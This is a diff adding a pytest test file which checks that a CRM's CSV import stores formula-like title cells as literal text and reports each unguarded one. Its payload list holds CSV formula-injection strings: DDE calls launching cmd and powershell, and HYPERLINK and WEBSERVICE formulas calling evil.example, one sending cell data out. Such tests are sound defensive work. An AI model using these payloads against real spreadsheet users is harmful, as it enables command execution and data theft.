@@ -1,0 +1,81 @@
+"""T14: a formula in a CSV file is text: taken literally, told of, and intact on the way round."""
+
+import csv
+import io
+import itertools
+from pathlib import Path
+
+import pytest
+
+from lorgnette.crm import runs
+from lorgnette.directory.models import CrmUser
+from tests.cast.crm import Folder
+
+STARTS = ["=", "+", "-", "@", "\t=", "\r=", " =", "'="]
+BODIES = [
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example?"&A1,"Click")',
+    "IMPORTXML(CONCAT(A1:Z9),1)",
+    "SUM(1,1)*cmd|' /C powershell'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    "0x41",
+    "@SUM(A1)",
+    "-2+3",
+    "=A1",
+    "\u00a0A1",
+    "1e9",
+    'WEBSERVICE("http://evil.example")',
+    "A1&B1",
+    "{1,2}",
+    "“quoted”",
+    "é",
+    "A\tB",
+    "A\nB",
+    "A;B,C",
+    "''",
+    "%0A",
+    "$A$1",
+    "TRUE",
+    "N()",
+]
+PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]
+
+
+@pytest.fixture
+def imported(tmp_path: Path):
+    """Two hundred people whose title is a formula, and the run that took them."""
+    folder = Folder(tmp_path)
+    text = io.StringIO()
+    writer = csv.writer(text)
+    writer.writerow(["id", "last_name", "title"])
+    writer.writerows([f"u-{n}", f"Person {n}", title] for n, title in enumerate(PAYLOADS))
+    folder.write("users.csv", text.getvalue())
+    return folder.sync()
+
+
+def _as_text(payload: str) -> str:
+    """White space is made one space, as in every text; a guarding apostrophe is no text."""
+    text = " ".join(payload.split())
+    return text[1:] if text.startswith(("'=", "'+", "'-", "'@")) else text
+
+
+@pytest.mark.django_db
+def test_two_hundred_formulas_are_kept_as_the_text_they_are(imported):
+    assert len(PAYLOADS) == 200
+    assert imported.state == "done"
+    titles = dict(CrmUser.objects.values_list("external_id", "title"))
+    assert titles == {f"u-{n}": _as_text(payload) for n, payload in enumerate(PAYLOADS)}
+
+
+@pytest.mark.django_db
+def test_each_is_told_of_with_its_line_unless_it_was_guarded(imported):
+    told = [
+        problem
+        for problem in runs.problems(imported.ref, size=500).rows
+        if problem.code == "looks_like_formula"
+    ]
+    guarded = sum(payload.startswith("'") for payload in PAYLOADS)
+    assert len(told) == len(PAYLOADS) - guarded
+    assert {problem.column for problem in told} == {"title"}
+    assert all(problem.taken and problem.line for problem in told)
